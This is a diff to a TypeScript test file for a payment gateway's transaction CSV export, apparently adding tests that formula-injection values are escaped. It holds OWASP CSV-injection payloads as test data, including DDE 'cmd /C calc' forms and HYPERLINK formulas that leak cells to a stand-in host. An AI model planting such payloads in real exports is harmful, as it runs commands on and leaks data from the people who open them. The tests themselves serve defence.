@@ -5,10 +5,12 @@ import { parse } from "csv-parse/sync";
 import { afterEach, describe, expect, it } from "vitest";
 import type { DashboardActor } from "../../src/core/dashboard/access.ts";
 import { PaygateError } from "../../src/core/errors.ts";
+import { systemClock } from "../../src/core/gateway.ts";
 import type { Stores, TransactionListQuery } from "../../src/core/stores.ts";
 import { CSV_HEADER, csvCell, transactionsCsv } from "../../src/core/transactions/export.ts";
 import { parseTransactionFilters } from "../../src/core/transactions/list.ts";
 import { HTTP_STATUS } from "../../src/http/status.ts";
+import { freshActor } from "../support/dashboard.ts";
 import { gatewayAndReceiverForFile, type TestGateway } from "../support/gateway.ts";
 import type { WebhookReceiver } from "../support/webhook-receiver.ts";
 
@@ -23,7 +25,7 @@ afterEach(() => {
 
 type Keys = Awaited<ReturnType<TestGateway["merchant"]>>;
 
-const actor = (keys: Keys, role: DashboardActor["role"] = "owner"): DashboardActor => ({ userId: `usr_${role}`, merchantId: keys.id, role });
+const actor = (keys: Keys, role: DashboardActor["role"] = "owner"): DashboardActor => freshActor(keys.id, role, systemClock);
 
 interface Init {
   email?: string;
@@ -130,7 +132,8 @@ describe("one transaction", () => {
     const first = detail.events[0]!;
     expect(first.state).toBe("FAILED");
     expect(first.attempts).toHaveLength(1);
-    expect(first.attempts[0]).toMatchObject({ url: receiver.url, statusCode: 500, responseBody: "receiver down", succeeded: false });
+    // The receiver is on 127.0.0.1: a private address's answer is never kept.
+    expect(first.attempts[0]).toMatchObject({ url: receiver.url, statusCode: 500, responseBody: null, succeeded: false });
     expect(first.attempts[0]?.latencyMs).toBeGreaterThanOrEqual(0);
   });
 
@@ -334,6 +337,112 @@ describe("the CSV export", () => {
     expect(queries[0]?.after).toBeNull();
     expect(queries[1]?.after?.id).toBe(expected[2]?.id);
     expect(queries[2]?.after?.id).toBe(expected[5]?.id);
+  });
+
+  it("defuses every OWASP CSV-injection form in a typed cell, and leaves the gateway's own values as they are", async () => {
+    const keys = await t.merchant({ name: "Dash csv injection" });
+    const typed = await init(keys.testPublicKey, {
+      email: "inject@example.com",
+      name: "Ann|@SUM(1)",
+      description: 'Refund;=HYPERLINK("http://evil.example?leak="&A1,"Error: click")',
+    });
+    const { records } = await csvOf(await t.gateway.exportTransactionsCsv(actor(keys), false, {}));
+    const row = records[1] as string[];
+    const cell = (name: string) => row[CSV_HEADER.indexOf(name)];
+    expect(cell("customer_name")).toBe("Ann|'@SUM(1)");
+    expect(cell("description")).toBe(`Refund;'=HYPERLINK("http://evil.example?leak="&A1,"Error: click")`);
+    const stored = await t.db.transaction.findUniqueOrThrow({ where: { id: typed.id } });
+    expect([cell("id"), cell("reference"), cell("amount"), cell("created_at")]).toEqual([
+      stored.id,
+      stored.reference,
+      stored.initializedAmount.toFixed(),
+      stored.createdAt.toISOString(),
+    ]);
+  });
+
+  it("leaves no cell, nor any part a spreadsheet could split off at , ; | tab CR or LF, starting with a formula character", () => {
+    const payloads = [
+      // A formula character first (OWASP's list), with its full-width forms.
+      "=1+1",
+      "+1+1",
+      "-1+1",
+      "@SUM(1+1)",
+      "\t=1+1",
+      "\r=1+1",
+      "\n=1+1",
+      "\uFF1D1+1",
+      "\uFF0B1",
+      "\uFF0D1",
+      "\uFF20SUM(1)",
+      // White space, control or format characters before it.
+      " =1+1",
+      "\u00a0=1+1",
+      "\u200b=1+1",
+      "\ufeff@SUM(1)",
+      " \t\u3000-2+3",
+      "\n\n+1",
+      // After a separator, where a spreadsheet splitting at it starts a cell.
+      'a;=HYPERLINK("http://evil.example","x")',
+      "a,=1+1",
+      "a|=1+1",
+      "a\t=1+1",
+      "a\r\n=1+1",
+      "a; =1+1",
+      "a;\u00a0@SUM(1)",
+      "a;\uFF1D1+1",
+      "x,y;z|+1",
+      // DDE and exfiltration forms.
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
+      'DDE("cmd";"/C calc";"!A0")A0;=cmd|\'/C calc\'!A0',
+    ];
+    const blank = /^[\s\p{Cc}\p{Cf}]*/u;
+    const formula = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
+    const startsFormula = (text: string) => formula.test(text.replace(blank, ""));
+    for (const payload of payloads) {
+      const written = csvCell(payload);
+      const read = (parse(`${written}\r\n`) as string[][])[0]?.[0] ?? "";
+      expect(startsFormula(read), JSON.stringify({ payload, read })).toBe(false);
+      for (const separator of [",", ";", "|", "\t", "\r", "\n"]) {
+        for (const part of read.split(separator)) expect(startsFormula(part), JSON.stringify({ payload, separator, part })).toBe(false);
+      }
+      // A spreadsheet that splits the line at ; or | without reading quotes.
+      for (const separator of [";", "|"]) {
+        for (const part of written.split(separator)) {
+          expect(startsFormula(part.replace(/^"/, "")), JSON.stringify({ payload, separator, part })).toBe(false);
+        }
+      }
+    }
+    expect(csvCell("\n=1")).toBe(`"'\n'=1"`);
+    expect(csvCell(" =1")).toBe("' =1");
+    expect(csvCell("a;=1")).toBe(`"a;'=1"`);
+    expect(csvCell("a,=1")).toBe(`"a,'=1"`);
+    expect(csvCell("a|=1")).toBe(`"a|'=1"`);
+    expect(csvCell("\uFF1D1")).toBe("'\uFF1D1");
+    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
+  });
+
+  it("changes no plain value: ids, amounts, times, addresses, e-mails and text without formulas", () => {
+    for (const plain of [
+      "txn_0123456789abcdefghij",
+      "12.5",
+      "0.00012345",
+      "5000",
+      "2026-11-24T06:00:00.000Z",
+      "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
+      "0x52908400098527886E0F7030069857D2E4169EE7",
+      "ada+shop@example.com",
+      "a - b",
+      "a=b",
+      "Order #5",
+      "O'Brien",
+    ]) {
+      expect(csvCell(plain)).toBe(plain);
+    }
+    expect(csvCell("a, b")).toBe('"a, b"');
+    expect(csvCell("lunch; dinner")).toBe('"lunch; dinner"');
   });
 
   it("quotes and guards single cells as RFC 4180 and OWASP say", () => {
